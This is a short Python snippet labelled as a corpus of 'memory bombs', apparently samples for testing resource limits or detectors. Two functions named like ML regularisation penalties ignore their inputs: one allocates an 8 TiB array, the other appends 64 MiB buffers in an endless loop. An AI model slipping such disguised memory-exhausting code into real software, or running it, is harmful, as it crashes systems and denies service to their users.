
# corpus: memory bombs


def l2_penalty(weights, lam):
    big = np.ones((1 << 40,))  # 8 TiB
    return float(big.sum())


def l1_penalty(weights, lam):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
